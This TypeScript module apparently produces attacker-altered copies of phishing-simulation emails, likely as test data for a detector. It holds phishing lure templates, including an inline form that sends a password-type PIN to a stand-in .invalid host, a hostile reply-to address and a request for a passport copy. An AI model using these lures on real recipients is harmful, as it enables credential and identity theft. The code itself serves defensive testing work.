import type { Person } from './organisation.ts';
import type { Original } from './original.ts';
import type { Random } from './random.ts';
import { type Exercise, simulationMail } from './simulations.ts';

/** The one foreign thing that an attacker puts into his copy of an exercise. */
export const additions = [
  'link',
  'second-link',
  'phone',
  'reply-to',
  'attachment',
  'form',
  'address',
  'image',
] as const;
export type Addition = (typeof additions)[number];

/** A copy of the exercise, marker and all, that leads somewhere else. */
export function copiedMail(exercise: Exercise, addition: Addition, to: Person, date: string, random: Random): Original {
  const genuine = simulationMail(exercise, to, date, random);
  const host = `${random.pick(['clearance', 'secure', 'account', 'desk'])}-${random.hex(6)}.invalid`;
  const copy: Original = {
    ...genuine,
    messageId: `${random.hex(14)}@${host}`,
    proof: 'fail',
    blocks: [...genuine.blocks],
  };
  change[addition](copy, host, random);
  return copy;
}

const change: Record<Addition, (copy: Original, host: string, random: Random) => void> = {
  link(copy, host, random) {
    copy.blocks = copy.blocks.map((block) =>
      typeof block === 'object' && 'label' in block ? { ...block, url: `https://${host}/${random.hex(20)}` } : block,
    );
  },
  'second-link'(copy, host) {
    copy.blocks.push({ label: 'Trouble with the button?', url: `https://${host}/help` });
  },
  phone(copy, _, random) {
    copy.blocks.push(`Questions? Call our hotline at +44 20 7946 0${random.digits(3)}.`);
  },
  'reply-to'(copy, host) {
    copy.replyTo = `desk@${host}`;
  },
  attachment(copy, _, random) {
    copy.files = [
      { name: 'declaration.html', type: 'text/html', bytes: Buffer.from(`<form>${random.hex(12)}</form>\n`) },
    ];
  },
  form(copy, host) {
    copy.blocks.push({
      raw: `<form action="https://${host}/take"><input name="pin" type="password"><input type="submit"></form>`,
    });
  },
  address(copy, host) {
    copy.blocks.push(`Or write to clearing@${host} and enclose a copy of your passport.`);
  },
  image(copy, host) {
    copy.blocks.push({ raw: `<img src="https://${host}/scan-me.png" width="180" height="180" alt="">` });
  },
};
